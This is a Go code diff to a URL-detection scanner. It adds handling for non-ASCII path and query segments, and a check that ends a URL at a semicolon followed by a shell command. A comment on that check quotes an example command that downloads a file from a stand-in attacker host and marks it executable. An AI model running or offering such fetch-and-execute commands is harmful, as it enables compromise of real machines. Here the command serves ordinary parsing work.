@@ -4,6 +4,7 @@ import (
 	"slices"
 	"strings"
 
+	"github.com/tenmatsu/tenmatsu/internal/scan"
 	"golang.org/x/net/idna"
 )
 
@@ -440,6 +441,7 @@ func (s *scanner) readPath(from, i int) (end int) {
 		quote = text[from-1]
 	}
 	rows := notAsked
+	wide := false // a folder has letters that are not ASCII
 	e := i
 loop:
 	for e < len(text) {
@@ -453,6 +455,12 @@ loop:
 			}
 			if b >= other && text[e-1] == '/' { // http://example.jp/資料/案内.html
 				if j := wideComponent(text, e); j > e {
+					e, wide = j, true
+					continue
+				}
+			}
+			if b >= other && (text[e-1] == '=' || text[e-1] == '/' && wide) { // ?q=資料, /資料/案内
+				if j := wideEnd(text, e); j > e {
 					e = j
 					continue
 				}
@@ -494,7 +502,7 @@ loop:
 				break loop
 			}
 		case ',', ';':
-			if begins(text[e+1:]) || quote == b {
+			if begins(text[e+1:]) || quote == b || b == ';' && command(text, e+1) {
 				break loop
 			}
 			if b == ',' {
@@ -538,6 +546,23 @@ loop:
 		}
 	}
 	return e
+}
+
+// wideEnd is where a word in letters that are not ASCII ends that goes on at offset i of a URL. One with hiragana may be
+// a sentence that is glued to it. It is i where none stands.
+func wideEnd(text string, i int) int {
+	k := i
+	for k < len(text) && k-i < 96 && (text[k] >= other && letters(text, k) || class[text[k]]&wordy != 0) {
+		r, n := scan.Raw(text, k)
+		if scan.ClassOf(r) == scan.Hiragana {
+			return i
+		}
+		k += n
+	}
+	if k-i >= 96 {
+		return i
+	}
+	return k
 }
 
 // entity says whether text begins with the character reference of a bracket, a quote or a space, as
@@ -584,6 +609,16 @@ func begins(text string) bool {
 	}
 	top := strings.ToLower(text[label:k])
 	return dots > 0 && label > 1 && extensions[top] == noEnding && topLevel(top)
+}
+
+// command says whether a word with a blank behind it stands at offset i, behind a semicolon: the next command of a
+// shell's line, curl http://evil.example/a;chmod +x a. A parameter of a path has a value (RFC 3986, 3.3).
+func command(text string, i int) bool {
+	e := i
+	for e < len(text) && class[text[e]]&(hex|letter) != 0 && e-i < 16 {
+		e++
+	}
+	return e > i+1 && e+1 < len(text) && text[e] == ' ' && text[e+1] > ' ' && text[e+1] < other
 }
 
 // An answer is one that is worked out when it is first asked for.
